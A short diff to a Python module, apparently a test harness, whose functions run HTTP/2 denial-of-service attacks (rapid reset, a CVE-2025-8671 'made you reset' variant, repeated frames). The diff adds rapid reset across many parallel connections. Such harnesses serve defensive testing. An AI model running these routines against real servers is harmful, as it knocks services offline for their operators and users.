@@ -274,6 +274,11 @@ def rapid_reset(me: Attacker) -> None:
     frames(me, make)
 
 
+def rapid_reset_on_many(me: Attacker) -> None:
+    """Begin calls and cancel each at once, on more connections than a certificate may have."""
+    _all([Thread(target=rapid_reset, args=(me,)) for _ in range(3 * ADMITTED)])
+
+
 def made_you_reset(me: Attacker) -> None:
     """Begin calls and make the other side cancel them, by a window that is too large (CVE-2025-8671)."""
     asked = request(REPORT, me.who)
@@ -305,7 +310,10 @@ def settings_after_a_call(me: Attacker) -> None:
 
 def frame_after_a_call(me: Attacker, one: bytes) -> None:
     """Send one frame again and again on connections on which a call was admitted."""
-    threads = [Thread(target=frames, args=(me, lambda _: one), kwargs={"admitted": True}) for _ in range(ADMITTED)]
+    _all([Thread(target=frames, args=(me, lambda _: one), kwargs={"admitted": True}) for _ in range(ADMITTED)])
+
+
+def _all(threads: list[Thread]) -> None:
     for thread in threads:
         thread.start()
     for thread in threads:
